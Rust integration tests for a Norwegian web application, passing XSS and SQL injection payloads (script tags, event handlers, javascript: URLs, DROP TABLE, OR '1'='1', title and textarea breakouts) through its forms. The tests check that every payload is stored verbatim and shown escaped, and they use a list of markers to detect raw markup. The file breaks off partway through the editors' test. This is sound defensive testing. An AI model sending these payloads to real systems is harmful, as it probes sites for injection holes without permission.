//! Classic injection and script payloads sent into every public and editors'
//! text field, through the router as plain form posts: each is stored as
//! text (byte for byte, the tables untouched) and shown escaped wherever it
//! appears again (public pages, editors' pages, the audit log, the feeds and
//! the CSV exports). Markdown bodies are sanitised rather than escaped.
//!
//! The rendering checks collect every problem and report them together at
//! the end of each test, so one run names all of them.

use std::{sync::Arc, time::Duration};

use app::{auth::Role, state::AppState};
use axum::{
    body::Body,
    http::{HeaderMap, Request, StatusCode},
};
use tower::ServiceExt;

use crate::common::*;

// ── The payloads ─────────────────────────────────────────────────────────

const SCRIPT: &str = "<script>alert(1)</script>";
const IMG: &str = "\"><img src=x onerror=alert(1)>";
const DROP: &str = "'; DROP TABLE resource; --";
const OR: &str = "' OR '1'='1";
const TEMPLATE: &str = "{{7*7}}";
const JS_URL: &str = "javascript:alert(1)";
const TEXTAREA: &str = "</textarea><script>alert(2)</script>";
const SVG: &str = "<svg onload=alert(3)>";
/// `<title>` is raw text up to `</title>`: this is the one way out of it.
const TITLE_BREAK: &str = "</title><script>alert(4)</script>";
/// Attribute breaker without spaces, so it passes URL and e-mail checks.
const SVG_SLASH: &str = "\"><svg/onload=alert(5)>";
/// Entities typed as text must come back as typed, not decoded.
const ENTITY: &str = "&lt;b&gt;fet&lt;/b&gt; &amp; Tom & Jerry";
/// Right-to-left override, zero-width space, non-ASCII letters and an emoji.
const UNI: &str = "\u{202e}gnirts\u{200b} æøå 🙂";

/// Every payload, one per line (for fields that take long text).
fn all_payloads() -> String {
    [
        SCRIPT,
        IMG,
        DROP,
        OR,
        TEMPLATE,
        JS_URL,
        TEXTAREA,
        SVG,
        TITLE_BREAK,
        SVG_SLASH,
        ENTITY,
        UNI,
    ]
    .join("\n")
}

/// Every payload on one line (for one-line fields up to 500 characters).
fn all_on_one_line() -> String {
    all_payloads().replace('\n', " ")
}

/// A Markdown body with raw HTML, handlers and crafted links in it.
fn markdown_body() -> String {
    format!(
        "## Mellomtittel\n\nVanlig tekst med {TEMPLATE} og {DROP} og {OR}.\n\n{SCRIPT}\n\n{IMG}\n\n\
         [klikk](javascript:alert(1))\n\n<a href=\"javascript:alert(6)\">lenke</a>\n\n{SVG}\n\n{TEXTAREA}\n\n{TITLE_BREAK}"
    )
}

/// Markup from the payloads that must never reach a page as markup.
const RAW_MARKERS: [&str; 10] = [
    "<script>alert(",
    "<img src=x",
    "<svg onload",
    "<svg/onload",
    "</textarea><script",
    "</title><script",
    "href=\"javascript:",
    "src=\"javascript:",
    "<b>fet</b>",
    "<a href=\"javascript:",
];

// ── Escaping as the page should do it ────────────────────────────────────

fn text_escaped(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
}

fn attr_escaped(s: &str) -> String {
    text_escaped(s).replace('"', "&quot;")
}

fn around(html: &str, at: usize) -> String {
    let mut lo = at.saturating_sub(80);
    while !html.is_char_boundary(lo) {
        lo -= 1;
    }
    let mut hi = (at + 120).min(html.len());
    while !html.is_char_boundary(hi) {
        hi += 1;
    }
    html[lo..hi].replace('\n', "⏎")
}

/// Problems found on the way; the test fails at the end with all of them.
#[derive(Default)]
struct Findings(Vec<String>);

impl Findings {
    fn check(&mut self, ok: bool, what: impl FnOnce() -> String) {
        if !ok {
            self.0.push(what());
        }
    }

    /// No payload markup survives as markup anywhere in `html`. Markers that
    /// are attributes (`href="javascript:`) count only inside a tag: as
    /// escaped text (`&lt;a href="javascript:`) they are harmless.
    fn no_raw(&mut self, ctx: &str, html: &str) {
        for marker in RAW_MARKERS {
            let hit = html.match_indices(marker).map(|(at, _)| at).find(|&at| {
                marker.starts_with('<')
                    || html[..at]
                        .rfind('<')
                        .map(|lt| html[..at].rfind('>').is_none_or(|gt| lt > gt))
                        .unwrap_or(false)
            });
            if let Some(at) = hit {
                self.0.push(format!(
                    "{ctx}: unescaped `{marker}` in …{}…",
                    around(html, at)
                ));
            }
        }
    }

    /// `value` appears, escaped as text or as an attribute value.
    fn shown(&mut self, ctx: &str, html: &str, value: &str) {
        let (text, attr) = (text_escaped(value), attr_escaped(value));
        self.check(html.contains(&text) || html.contains(&attr), || {
            format!("{ctx}: {value:?} is not shown (escaped as {text:?} or {attr:?})")
        });
    }

    /// The page answered (not a 500) and shows nothing raw.
    fn page(&mut self, ctx: &str, status: StatusCode, html: &str) {
        self.check(!status.is_server_error(), || {
            format!("{ctx}: answered {status}: {}", around(html, 0))
        });
        self.no_raw(ctx, html);
    }

    /// The sanitised Markdown in the page's `prose` block(s): no script, no
    /// handlers, no `javascript:` links; the heading is rendered.
    fn sanitised(&mut self, ctx: &str, html: &str) {
        let blocks: Vec<&str> = html
            .match_indices("class=\"prose\"")
            .filter_map(|(i, _)| {
                let rest = &html[i..];
                let start = rest.find('>')? + 1;
                let end = rest.find("</div>")?;
                rest.get(start..end)
            })
            .collect();
        self.check(
            blocks.iter().any(|b| b.contains("<h2>Mellomtittel</h2>")),
            || format!("{ctx}: the Markdown body is not rendered: {blocks:?}"),
        );
        for block in blocks {
            let lower = block.to_lowercase();
            for bad in [
                "<script",
                "onerror",
                "onload",
                "javascript:",
                "<svg",
                "</textarea",
                "</title",
            ] {
                self.check(!lower.contains(bad), || {
                    format!("{ctx}: `{bad}` survived the sanitiser: {block}")
                });
            }
        }
    }

    /// The `<title>` element holds `title` (plus the site name), escaped.
    fn title_element(&mut self, ctx: &str, html: &str, title: &str) {
        let start = html
            .find("<title>")
            .map(|i| i + "<title>".len())
            .unwrap_or(0);
        let end = html[start..]
            .find("</title>")
            .map(|i| start + i)
            .unwrap_or(start);
        let got = &html[start..end];
        self.check(got.starts_with(&text_escaped(title)), || {
            format!(
                "{ctx}: <title> is {got:?}, expected it to start with {:?} (escaped)",
                text_escaped(title)
            )
        });
    }

    /// Every JSON-LD block: no `<` at all (so no `</script>`), valid JSON,
    /// and `name` is the text as stored.
    fn json_ld(&mut self, ctx: &str, html: &str, name: &str) {
        let mut found = false;
        for (i, _) in html.match_indices("application/ld+json") {
            let rest = &html[i..];
            let (Some(start), Some(end)) = (rest.find('>'), rest.find("</script>")) else {
                continue;
            };
            let json = &rest[start + 1..end];
            self.check(!json.contains('<'), || {
                format!("{ctx}: `<` inside JSON-LD: {json}")
            });
            match serde_json::from_str::<serde_json::Value>(json) {
                Ok(value) if value["name"] == name => found = true,
                Ok(_) => {}
                Err(err) => self
                    .0
                    .push(format!("{ctx}: JSON-LD does not parse ({err}): {json}")),
            }
        }
        self.check(found, || format!("{ctx}: no JSON-LD block names {name:?}"));
    }

    fn finish(self, test: &str) {
        assert!(
            self.0.is_empty(),
            "{test}: {} problem(s):\n- {}",
            self.0.len(),
            self.0.join("\n- ")
        );
    }
}

// ── Requests ─────────────────────────────────────────────────────────────

fn form(pairs: &[(&str, &str)]) -> String {
    pairs
        .iter()
        .map(|(k, v)| format!("{}={}", app::query::encode(k), app::query::encode(v)))
        .collect::<Vec<_>>()
        .join("&")
}

fn enc(s: &str) -> String {
    app::query::encode(s)
}

const BROWSER: &str = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0 Safari/537.36";

/// Any request, with its response headers.
async fn send(
    state: &AppState,
    method: &str,
    uri: &str,
    headers: &[(&str, &str)],
    body: &str,
) -> (StatusCode, HeaderMap, String) {
    let mut request = Request::builder()
        .method(method)
        .uri(uri)
        .header("accept", "text/html")
        .header("user-agent", BROWSER);
    if method == "POST" {
        request = request.header("content-type", "application/x-www-form-urlencoded");
    }
    for (k, v) in headers {
        request = request.header(*k, *v);
    }
    let response = server::router(state.clone())
        .oneshot(request.body(Body::from(body.to_string())).unwrap())
        .await
        .unwrap();
    let status = response.status();
    let headers = response.headers().clone();
    let body = axum::body::to_bytes(response.into_body(), 10 << 20)
        .await
        .unwrap();
    (status, headers, String::from_utf8_lossy(&body).into_owned())
}

async fn post(
    state: &AppState,
    uri: &str,
    cookie: Option<&str>,
    body: &str,
) -> (StatusCode, Option<String>, String) {
    call(state, "POST", uri, cookie, body).await
}

/// A seeded site that lets the test submit as often as it likes.
async fn state(dir: &tempfile::TempDir) -> AppState {
    let mut state = seeded_state(dir).await;
    state.limiter = Arc::new(app::state::RateLimiter::new(
        10_000,
        Duration::from_secs(600),
    ));
    state
}

async fn tables(state: &AppState) -> Vec<String> {
    sqlx::query_scalar("SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name")
        .fetch_all(&state.pool)
        .await
        .unwrap()
}

async fn one(state: &AppState, sql: &str, bind: &str) -> String {
    sqlx::query_scalar(sql)
        .bind(bind)
        .fetch_one(&state.pool)
        .await
        .unwrap_or_else(|err| panic!("{sql} [{bind}]: {err}"))
}

/// A small CSV reader (quotes, doubled quotes, CRLF) for the exports.
fn csv_rows(text: &str, sep: char) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut cell = String::new();
    let mut quoted = false;
    let mut chars = text.trim_start_matches('\u{feff}').chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') if cell.is_empty() => quoted = true,
            (false, c) if c == sep => row.push(std::mem::take(&mut cell)),
            (false, '\r') => {}
            (false, '\n') => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => cell.push(c),
        }
    }
    if !cell.is_empty() || !row.is_empty() {
        row.push(cell);
        rows.push(row);
    }
    rows
}

/// Creates a published, open consultation round through the editors' form.
async fn open_round(
    state: &AppState,
    cookie: &str,
    slug: &str,
    title: &str,
    intro: &str,
    questions: &str,
) -> Vec<i64> {
    let body = form(&[
        ("title", title),
        ("slug", slug),
        ("intro", intro),
        ("closes_on", "2099-12-31"),
        ("status", "published"),
        ("questions", questions),
    ]);
    let (status, location, html) = post(state, "/redaktor/innspill/ny", Some(cookie), &body).await;
    assert_eq!(status, StatusCode::SEE_OTHER, "the round is saved: {html}");
    assert_eq!(
        location.as_deref(),
        Some(&*format!("/redaktor/innspill/{slug}?melding=lagret"))
    );
    sqlx::query_scalar(
        "SELECT q.id FROM consultation_question q JOIN consultation c ON c.id = q.consultation_id WHERE c.slug = ?1 ORDER BY q.position",
    )
    .bind(slug)
    .fetch_all(&state.pool)
    .await
    .unwrap()
}

// ── Public forms ─────────────────────────────────────────────────────────

#[tokio::test]
async fn public_forms_store_payloads_as_text_and_show_them_escaped() {
    let dir = tempfile::tempdir().unwrap();
    let mut state = state(&dir).await;
    let (recorder, mut events) = app::stats::Recorder::new(&state.public_url);
    state.stats = Arc::new(recorder);
    let before_tables = tables(&state).await;
    let resources_before: i64 = sqlx::query_scalar("SELECT count(*) FROM resource")
        .fetch_one(&state.pool)
        .await
        .unwrap();
    let admin = session_cookie(&state, "sjef", Role::Admin).await;
    let mut f = Findings::default();

    // ── The feedback flow: a suggestion with a payload in every text field.
    let title = format!("Forslag {SCRIPT} {IMG} {TITLE_BREAK} {DROP} {UNI}");
    let url = format!("https://evil.example/?a={SVG_SLASH}&b={OR}").replace(' ', "");
    let page = format!("/ressurser/erfaringsbasert-kvalitetssikring{SVG_SLASH}{TEMPLATE}");
    let message = all_payloads();
    let name = format!("{SCRIPT}{OR}");
    let email = format!("{SVG_SLASH}@evil.example");
    let details = [
        ("kind", "forslag"),
        ("page", &*page),
        ("title", &*title),
        ("url", &*url),
        ("message", &*message),
    ];
    let contact = [("name", &*name), ("email", &*email), ("consent", "ja")];

    let step = |n: &str, action: &str, extra: &[(&str, &str)]| {
        let mut pairs = vec![("steg", n.to_string()), ("handling", action.to_string())];
        pairs.extend(
            details
                .iter()
                .chain(contact.iter())
                .map(|(k, v)| (*k, v.to_string())),
        );
        pairs.extend(extra.iter().map(|(k, v)| (*k, v.to_string())));
        pairs
            .iter()
            .map(|(k, v)| format!("{}={}", enc(k), enc(v)))
            .collect::<Vec<_>>()
            .join("&")
    };
    for (n, action, expect) in [
        ("2", "neste", "Steg 3 av 4"),
        ("3", "neste", "Steg 4 av 4"),
        ("4", "endre-2", "Steg 2 av 4"),
        ("4", "tilbake", "Steg 3 av 4"),
    ] {
        let (status, _, html) = post(&state, "/tilbakemelding", None, &step(n, action, &[])).await;
        let ctx = format!("POST /tilbakemelding steg={n} handling={action}");
        assert_eq!(status, StatusCode::OK, "{ctx}: {html}");
        assert!(html.contains(expect), "{ctx}: expected {expect}");
        f.page(&ctx, status, &html);
        for value in [&title, &url, &page, &message, &name, &email] {
            f.shown(&ctx, &html, value);
        }
    }
    let (status, location, _) =
        post(&state, "/tilbakemelding", None, &step("4", "send", &[])).await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    let reference = location
        .unwrap()
        .strip_prefix("/tilbakemelding/kvittering/")
        .unwrap()
        .to_string();
    let stored: (String, String, String, String, String, String) =
        sqlx::query_as("SELECT title, url, page, message, contact_name, contact_email FROM feedback WHERE reference = ?1")
            .bind(&reference)
            .fetch_one(&state.pool)
            .await
            .unwrap();
    assert_eq!(
        stored,
        (
            title.clone(),
            url.clone(),
            page.clone(),
            message.clone(),
            name.clone(),
            email.clone()
        ),
        "stored byte for byte"
    );

    for uri in [
        format!("/tilbakemelding/kvittering/{reference}"),
        "/redaktor/tilbakemeldinger".into(),
        format!("/redaktor/tilbakemeldinger/{reference}"),
    ] {
        let (status, html) = get_with(&state, &uri, &admin).await;
        f.page(&uri, status, &html);
        if uri.starts_with("/redaktor") {
            f.shown(&uri, &html, &title);
        }
        if uri.ends_with(&reference) && uri.starts_with("/redaktor") {
            for value in [&url, &page, &message, &name, &email] {
                f.shown(&uri, &html, value);
            }
        }
    }

    // A free-text message ("annet") with everything, and the NUL character.
    let nul = format!("før\u{0}etter {SCRIPT}");
    let (status, location, html) = post(
        &state,
        "/tilbakemelding",
        None,
        &form(&[
            ("steg", "4"),
            ("kind", "annet"),
            ("message", &nul),
            ("handling", "send"),
        ]),
    )
    .await;
    f.page("POST /tilbakemelding with NUL", status, &html);
    if status == StatusCode::SEE_OTHER {
        let reference = location.unwrap().rsplit('/').next().unwrap().to_string();
        assert_eq!(
            one(
                &state,
                "SELECT message FROM feedback WHERE reference = ?1",
                &reference
            )
            .await,
            nul,
            "NUL kept as typed"
        );
        let (status, html) = get_with(
            &state,
            &format!("/redaktor/tilbakemeldinger/{reference}"),
            &admin,
        )
        .await;
        f.page("inbox item with NUL", status, &html);
    } else {
        f.check(status.is_client_error() && html.contains("tegn"), || {
            format!("NUL refused without a field message: {status}")
        });
    }

    // Fields whose checks refuse the payload: a Norwegian message, the input shown again escaped.
    /// (field, form pairs, the message expected, the input expected back).
    type Refusal<'a> = (&'a str, Vec<(&'a str, String)>, &'a str, Option<String>);
    let refusals: [Refusal; 8] = [
        (
            "url",
            vec![
                ("steg", "2".into()),
                ("kind", "forslag".into()),
                ("title", "X".into()),
                ("url", JS_URL.into()),
            ],
            "Skriv en hel nettadresse som begynner med https://",
            Some(JS_URL.into()),
        ),
        (
            "email",
            vec![
                ("steg", "3".into()),
                ("kind", "annet".into()),
                ("message", "X".into()),
                ("email", format!("{IMG}@x.no")),
                ("consent", "ja".into()),
            ],
            "Skriv en e-postadresse som navn@eksempel.no",
            Some(format!("{IMG}@x.no")),
        ),
        (
            "name",
            vec![
                ("steg", "3".into()),
                ("kind", "annet".into()),
                ("message", "X".into()),
                ("name", format!("{SCRIPT}{}", "x".repeat(100))),
            ],
            "Navnet kan ha høyst 100 tegn.",
            Some(format!("{SCRIPT}{}", "x".repeat(100))),
        ),
        (
            "level",
            vec![
                ("steg", "2".into()),
                ("kind", "forslag".into()),
                ("title", "X".into()),
                ("level", SCRIPT.into()),
            ],
            "Velg blant nivåene på listen.",
            None,
        ),
        (
            "audience",
            vec![
                ("steg", "2".into()),
                ("kind", "forslag".into()),
                ("title", "X".into()),
                ("audience", SVG.into()),
            ],
            "Velg blant målgruppene på listen.",
            None,
        ),
        (
            "topic",
            vec![
                ("steg", "2".into()),
                ("kind", "innspill".into()),
                ("message", "X".into()),
                ("topic", IMG.into()),
            ],
            "Velg blant valgene på listen.",
            None,
        ),
        (
            "kind",
            vec![("steg", "1".into()), ("kind", SCRIPT.into())],
            "Velg hva tilbakemeldingen gjelder.",
            None,
        ),
        (
            "message",
            vec![
                ("steg", "2".into()),
                ("kind", "annet".into()),
                ("message", format!("{TEXTAREA}{}", "x".repeat(4_000))),
            ],
            "Teksten kan ha høyst 4000 tegn.",
            Some(format!("{TEXTAREA}{}", "x".repeat(4_000))),
        ),
    ];
    for (field, pairs, expect, echoed) in refusals {
        let mut pairs = pairs;
        pairs.push(("handling", "neste".into()));
        let body = pairs
            .iter()
            .map(|(k, v)| format!("{}={}", enc(k), enc(v)))
            .collect::<Vec<_>>()
            .join("&");
        let (status, _, html) = post(&state, "/tilbakemelding", None, &body).await;
        let ctx = format!("POST /tilbakemelding refusing {field}");
        f.check(status == StatusCode::UNPROCESSABLE_ENTITY, || {
            format!("{ctx}: answered {status}")
        });
        f.check(html.contains(expect), || {
            format!("{ctx}: no message {expect:?}")
        });
        f.page(&ctx, status, &html);
        if let Some(echoed) = echoed {
            f.shown(&ctx, &html, &echoed);
        }
    }
    // The honeypot is shown again too (as the value of its hidden field).
    let (status, _, html) = post(
        &state,
        "/tilbakemelding",
        None,
        &form(&[
            ("steg", "4"),
            ("kind", "annet"),
            ("message", "Hei"),
            ("nettsted", IMG),
            ("handling", "send"),
        ]),
    )
    .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    f.page("honeypot", status, &html);
    f.shown("honeypot", &html, IMG);

    // ── "Var denne siden nyttig?" and "Hva manglet?"
    let helpful_path = format!("/ressurser/erfaringsbasert-kvalitetssikring{SVG_SLASH}");
    let (status, location, _) = post(
        &state,
        "/nyttig",
        None,
        &form(&[("path", &helpful_path), ("svar", "nei")]),
    )
    .await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    assert_eq!(
        location.as_deref(),
        Some(&*format!("{helpful_path}?nyttig=nei#nyttig"))
    );
    assert_eq!(
        one(
            &state,
            "SELECT path FROM page_helpful WHERE path = ?1",
            &helpful_path
        )
        .await,
        helpful_path
    );
    let (status, _, _) = post(
        &state,
        "/nyttig",
        None,
        &form(&[("path", JS_URL), ("svar", "ja")]),
    )
    .await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "only local pages");
    let (status, _, body) = post(
        &state,
        "/nyttig",
        None,
        &form(&[
            ("path", "/ressurser/erfaringsbasert-kvalitetssikring"),
            ("svar", SCRIPT),
        ]),
    )
    .await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "only ja or nei");
    f.check(
        body.contains("Ukjent side eller svar.") && !body.contains('<'),
        || format!("POST /nyttig svar=<script>: {body}"),
    );
    let comment = all_payloads();
    let (status, _, _) = post(
        &state,
        "/nyttig/kommentar",
        None,
        &form(&[
            ("path", "/ressurser/erfaringsbasert-kvalitetssikring"),
            ("comment", &comment),
        ]),
    )
    .await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    assert_eq!(
        one(
            &state,
            "SELECT comment FROM page_helpful_comment WHERE path = ?1",
            "/ressurser/erfaringsbasert-kvalitetssikring"
        )
        .await,
        comment
    );
    let (status, html) = get_with(&state, "/redaktor/tilbakemeldinger", &admin).await;
    f.page("inbox helpfulness", status, &html);
    f.shown("inbox helpfulness", &html, &helpful_path);

    // ── Consultation answers.
    let ids = open_round(
        &state,
        &admin,
        "runde-for-svar",
        "Runde for svar",
        "Svar gjerne.",
        "Hva virker?\nHva mangler?\nAnnet?",
    )
    .await;
    let answers = [
        all_payloads(),
        TEXTAREA.to_string(),
        format!("{UNI} {OR} {ENTITY}"),
    ];
    let body = form(
        &ids.iter()
            .zip(&answers)
            .map(|(id, a)| (format!("q{id}"), a.clone()))
            .collect::<Vec<_>>()
            .iter()
            .map(|(k, v)| (k.as_str(), v.as_str()))
            .collect::<Vec<_>>(),
    );
    let (status, location, html) = post(&state, "/innspill/runde-for-svar", None, &body).await;
    assert_eq!(
        (status, location.as_deref()),
        (
            StatusCode::SEE_OTHER,
            Some("/innspill/runde-for-svar?takk=1")
        ),
        "{html}"
    );
    for (id, answer) in ids.iter().zip(&answers) {
        let stored: String =
            sqlx::query_scalar("SELECT answer FROM consultation_answer WHERE question_id = ?1")
                .bind(id)
                .fetch_one(&state.pool)
                .await
                .unwrap();
        assert_eq!(&stored, answer, "answer stored byte for byte");
    }
    let (status, html) = get_with(&state, "/redaktor/innspill/runde-for-svar", &admin).await;
    f.page("/redaktor/innspill/runde-for-svar (answers)", status, &html);
    for answer in &answers {
        f.shown("/redaktor/innspill/runde-for-svar (answers)", &html, answer);
    }
    let too_long = format!("{TEXTAREA}{}", "x".repeat(4_000));
    let (status, _, html) = post(
        &state,
        "/innspill/runde-for-svar",
        None,
        &form(&[(&format!("q{}", ids[0]), &too_long)]),
    )
    .await;
    f.check(
        status == StatusCode::UNPROCESSABLE_ENTITY
            && html.contains("Svaret kan ha høyst 4000 tegn."),
        || format!("too long answer: {status}"),
    );
    f.page("POST /innspill too long", status, &html);
    f.shown("POST /innspill too long", &html, &too_long);
    let (status, _, html) = post(
        &state,
        "/innspill/runde-for-svar",
        None,
        &form(&[(&format!("q{SCRIPT}"), "x"), ("q999999", IMG)]),
    )
    .await;
    f.check(
        status == StatusCode::UNPROCESSABLE_ENTITY
            && html.contains("Svarene passer ikke til spørsmålene."),
        || format!("unknown question: {status}"),
    );
    f.page("POST /innspill unknown question", status, &html);
    let uri = format!("/innspill/{}", enc(SCRIPT));
    let (status, _, html) =
        post(&state, &uri, None, &form(&[(&format!("q{}", ids[0]), IMG)])).await;
    f.check(status == StatusCode::GONE, || {
        format!(
            "POST {uri}: expected 410 (no such open round), got {status}: {}",
            around(&html, 0)
        )
    });
    f.page(&format!("POST {uri}"), status, &html);

    // ── The catalogue search, reflected on /ressurser, in the feed and the CSV.
    let payloads = [
        SCRIPT,
        IMG,
        DROP,
        OR,
        TEMPLATE,
        JS_URL,
        TEXTAREA,
        SVG,
        TITLE_BREAK,
        SVG_SLASH,
        ENTITY,
        UNI,
    ];
    for p in payloads {
        let uri = format!("/ressurser?q={}", enc(p));
        let (status, _, html) = send(&state, "GET", &uri, &[], "").await;
        assert_eq!(status, StatusCode::OK, "{uri}");
        f.page(&uri, status, &html);
        f.shown(&uri, &html, p.trim());
        for export in ["/ressurser.atom", "/ressurser.csv"] {
            let uri = format!("{export}?q={}", enc(p));
            let (status, _, body) = send(&state, "GET", &uri, &[], "").await;
            f.check(status == StatusCode::OK, || format!("{uri}: {status}"));
            f.check(!p.contains('<') || !body.contains(p), || {
                format!("{uri}: the search is echoed raw")
            });
        }
    }
    // A page path from the statistics beacon: no longer counted (it is not a
    // page), but a row an older version wrote is still listed, as text.
    let beacon_path = format!("/ressurser/{SVG_SLASH}{SCRIPT}");
    let (status, _, _) = send(&state, "POST", "/besok", &[], &beacon_path).await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    sqlx::query("INSERT INTO stat_page (day, path, views, visitors) VALUES (?1, ?2, 5, 1)")
        .bind(app::stats::today())
        .bind(&beacon_path)
        .execute(&state.pool)
        .await
        .unwrap();
    // Searches that found nothing are listed for editors.
    let mut batch = Vec::new();
    while let Ok(event) = events.try_recv() {
        batch.push(event);
    }
    app::stats::write_batch(&state.pool, &batch).await.unwrap();
    let empty: Vec<String> = batch
        .iter()
        .filter_map(|e| match e {
            app::stats::Event::EmptySearch { query, .. } => Some(query.clone()),
            _ => None,
        })
        .collect();
    assert!(!empty.is_empty(), "some payload searches found nothing");
    let (status, html) = get_with(&state, "/redaktor/statistikk", &admin).await;
    f.page("/redaktor/statistikk", status, &html);
    for query in &empty {
        f.shown("/redaktor/statistikk (empty searches)", &html, query);
    }
    f.shown("/redaktor/statistikk (pages)", &html, &beacon_path);
    f.check(
        !html.contains(&format!("href=\"{}", attr_escaped(&beacon_path))),
        || "an unknown path is linked".to_string(),
    );
    let (status, html) = get(&state, "/statistikk").await;
    f.page("/statistikk", status, &html);

    // ── GET parameters that are echoed, and paths that are not found.
    // Spaceless: sign-in drops a `neste` with whitespace (it would not be echoed).
    let next = format!("/{SVG_SLASH}");
    for (uri, echoed) in [
        (
            format!("/tilbakemelding?fra={}&type=feil", enc(&page)),
            Some(page.clone()),
        ),
        (
            format!("/tilbakemelding?fra={}&type={}", enc(SCRIPT), enc(IMG)),
            None,
        ),
        (
            format!(
                "/logg-inn?feil=feil&bruker={}&neste={}",
                enc(IMG),
                enc(&next)
            ),
            Some(IMG.to_string()),
        ),
        (
            format!("/logg-inn?neste={}", enc(&next)),
            Some(next.clone()),
        ),
        (
            format!(
                "/veiviser?plan={}&nivaa={}&tid={}",
                enc(SCRIPT),
                enc(IMG),
                enc(SVG)
            ),
            None,
        ),
        (
            format!(
                "/ressurser?nivaa={}&sort={}&side={}&organisasjon={}",
                enc(SCRIPT),
                enc(IMG),
                enc(OR),
                enc(SVG)
            ),
            None,
        ),
        (
            format!("/brukerorganisasjoner?orgtype={}", enc(SCRIPT)),
            None,
        ),
        (format!("/nytt?side={}", enc(SCRIPT)), None),
        (
            format!("/redaktor/statistikk?fra={}&til={}", enc(SCRIPT), enc(IMG)),
            Some(SCRIPT.to_string()),
        ),
        (
            format!(
                "/redaktor/tilbakemeldinger?fra={}&type={}&status={}",
                enc(SCRIPT),
                enc(IMG),
                enc(SVG)
            ),
            None,
        ),
        (format!("/redaktor/logg?side={}", enc(SCRIPT)), None),
        (format!("/ressurser/{}", enc(SCRIPT)), None),
        (format!("/innspill/{}", enc(IMG)), None),
        (format!("/inngang/{}", enc(SCRIPT)), None),
        (format!("/tilbakemelding/kvittering/{}", enc(SCRIPT)), None),
        (format!("/redaktor/ressurser/{}", enc(IMG)), None),
        (format!("/redaktor/sider/{}", enc(SCRIPT)), None),
        (format!("/{}", enc(TITLE_BREAK)), None),
    ] {
        let (status, html) = get_with(&state, &uri, &admin).await;
        f.page(&format!("GET {uri}"), status, &html);
        if let Some(echoed) = echoed {
            f.shown(&format!("GET {uri}"), &html, &echoed);
        }
    }

    // ── Sign-in: the username comes back escaped; SQL in either field signs nobody in.
    let username = format!("{IMG}{SCRIPT}");
    for (user, password) in [
        (username.as_str(), OR),
        ("sjef", OR),
        ("sjef' --", "x"),
        (OR, OR),
        (DROP, DROP),
    ] {
        let (status, headers, _) = send(
            &state,
            "POST",
            "/auth/logg-inn",
            &[],
            &form(&[("brukernavn", user), ("passord", password)]),
        )
        .await;
        assert_eq!(status, StatusCode::SEE_OTHER);
        assert!(
            headers.get("set-cookie").is_none(),
            "{user:?}/{password:?} must not sign in"
        );
        let location = headers
            .get("location")
            .unwrap()
            .to_str()
            .unwrap()
            .to_string();
        assert!(
            location.starts_with("/logg-inn?feil=feil&bruker="),
            "{location}"
        );
        let (status, html) = get(&state, &location).await;
        f.page(&format!("GET {location}"), status, &html);
        f.shown(&format!("GET {location}"), &html, user);
    }

    // Nothing was dropped or added behind the forms' backs.
    assert_eq!(
        tables(&state).await,
        before_tables,
        "DROP TABLE did nothing"
    );
    let resources_after: i64 = sqlx::query_scalar("SELECT count(*) FROM resource")
        .fetch_one(&state.pool)
        .await
        .unwrap();
    assert_eq!(resources_after, resources_before);
    f.finish("public forms");
}

// ── Editors' and administrators' forms ───────────────────────────────────

#[tokio::test]
async fn editors_forms_store_payloads_as_text_and_show_them_escaped() {
    let dir = tempfile::tempdir().unwrap();
    let state = state(&dir).await;
    let before_tables = tables(&state).await;
    let admin = session_cookie(&state, "sjef", Role::Admin).await;
    let mut f = Findings::default();

    // ── A category value (added, refused, renamed).
    let first_label = format!("Verdi {SCRIPT} {IMG}");
    let (status, location, html) = post(
        &state,
        "/redaktor/kategorier/malgruppe/ny",
        Some(&admin),
        &form(&[("label", &first_label)]),
    )
    .await;
    assert_eq!(status, StatusCode::SEE_OTHER, "{html}");
    let value_id: i64 = location
        .unwrap()
        .rsplit("#verdi-")
        .next()
        .unwrap()
        .parse()
        .unwrap();
    let value_key = one(
        &state,
        "SELECT key FROM facet_value WHERE label = ?1",
        &first_label,
    )
    .await;
    for (label, expect) in [
        (
            format!("{SCRIPT}{}", "x".repeat(80)),
            "Navnet kan ha høyst 80 tegn.",
        ),
        (
            "<>\"'".to_string(),
            "Navnet må ha minst én bokstav eller ett tall.",
        ),
    ] {
        let (status, _, html) = post(
            &state,
            "/redaktor/kategorier/malgruppe/ny",
            Some(&admin),
            &form(&[("label", &label)]),
        )
        .await;
        let ctx = "POST /redaktor/kategorier/malgruppe/ny (refused)";
        f.check(
            status == StatusCode::UNPROCESSABLE_ENTITY && html.contains(expect),
            || format!("{ctx}: {status}, expected {expect:?}"),
        );
        f.page(ctx, status, &html);
        f.shown(ctx, &html, &label);
    }
    let label = format!("Verdi {SVG} {DROP}");
    let (status, _, _) = post(
        &state,
        &format!("/redaktor/kategorier/verdi/{value_id}"),
        Some(&admin),
        &form(&[("handling", "navn"), ("label", &label)]),
    )
    .await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    assert_eq!(
        one(
            &state,
            "SELECT label FROM facet_value WHERE key = ?1",
            &value_key
        )
        .await,
        label
    );
    let too_long = format!("{TEXTAREA}{}", "x".repeat(80));
    let (status, _, html) = post(
        &state,
        &format!("/redaktor/kategorier/verdi/{value_id}"),
        Some(&admin),
        &form(&[("handling", "navn"), ("label", &too_long)]),
    )
    .await;
    f.check(
        status == StatusCode::UNPROCESSABLE_ENTITY && html.contains("Navnet kan ha høyst 80 tegn."),
        || format!("rename refused: {status}"),
    );
    f.page("rename refused", status, &html);
    f.shown("rename refused", &html, &too_long);

    // ── An organisation (refused, then saved).
